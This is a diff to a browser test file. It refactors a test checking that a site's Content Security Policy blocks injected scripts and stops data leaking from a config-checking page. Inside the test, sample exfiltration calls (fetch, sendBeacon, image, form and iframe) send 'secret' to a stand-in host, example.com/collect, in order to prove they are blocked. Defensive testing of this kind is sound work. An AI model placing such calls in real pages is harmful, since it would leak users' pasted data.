@@ -33,44 +33,41 @@ httpTest('editors on other sites can load the schema', async ({request}) => {
   expect(response.headers()['access-control-allow-origin']).toBe('*');
 });
 
-test.describe('the policy', () => {
-  test.use({
-    allowedProblems: [
-      {pattern: /Content Security Policy|violates|Refused/, reason: 'the test provokes it'},
-    ],
+test('the policy blocks injected scripts, and sends no text to other sites', async ({
+  page,
+  visit,
+  problems,
+}) => {
+  problems.allow(/Content Security Policy|violates|Refused/);
+  const responses: string[] = [];
+  page.on('response', (response) => responses.push(response.url()));
+  // The page that readers paste their configs into.
+  await visit('tools/check');
+  const blocked = await page.evaluateHandle(() => {
+    const directives = new Set<string>();
+    document.addEventListener('securitypolicyviolation', ({effectiveDirective}) =>
+      directives.add(effectiveDirective),
+    );
+    const target = 'https://example.com/collect';
+    fetch(target, {method: 'POST', body: 'secret'}).catch(() => undefined);
+    navigator.sendBeacon(target, 'secret');
+    new Image().src = target;
+    const form = document.createElement('form');
+    form.action = target;
+    form.method = 'post';
+    const frame = document.createElement('iframe');
+    frame.src = target;
+    const script = document.createElement('script');
+    script.textContent = 'window.isInjected = true';
+    document.body.append(form, frame, script);
+    form.submit();
+    return directives;
   });
-
-  test('blocks injected scripts, and sends no text to other sites', async ({page, visit}) => {
-    const responses: string[] = [];
-    page.on('response', (response) => responses.push(response.url()));
-    // The page that readers paste their configs into.
-    await visit('tools/check');
-    const blocked = await page.evaluateHandle(() => {
-      const directives = new Set<string>();
-      document.addEventListener('securitypolicyviolation', ({effectiveDirective}) =>
-        directives.add(effectiveDirective),
-      );
-      const target = 'https://example.com/collect';
-      fetch(target, {method: 'POST', body: 'secret'}).catch(() => undefined);
-      navigator.sendBeacon(target, 'secret');
-      new Image().src = target;
-      const form = document.createElement('form');
-      form.action = target;
-      form.method = 'post';
-      const frame = document.createElement('iframe');
-      frame.src = target;
-      const script = document.createElement('script');
-      script.textContent = 'window.isInjected = true';
-      document.body.append(form, frame, script);
-      form.submit();
-      return directives;
-    });
-    await expect
-      .poll(() => blocked.evaluate((directives) => [...directives].sort()))
-      .toEqual(['connect-src', 'form-action', 'frame-src', 'img-src', 'script-src-elem']);
-    expect(await page.evaluate(() => 'isInjected' in window)).toBe(false);
-    expect(responses.filter((url) => url.includes('example.com'))).toEqual([]);
-  });
+  await expect
+    .poll(() => blocked.evaluate((directives) => [...directives].sort()))
+    .toEqual(['connect-src', 'form-action', 'frame-src', 'img-src', 'script-src-elem']);
+  expect(await page.evaluate(() => 'isInjected' in window)).toBe(false);
+  expect(responses.filter((url) => url.includes('example.com'))).toEqual([]);
 });
 
 test('diagrams have their colors, without style elements', async ({page, visit}) => {
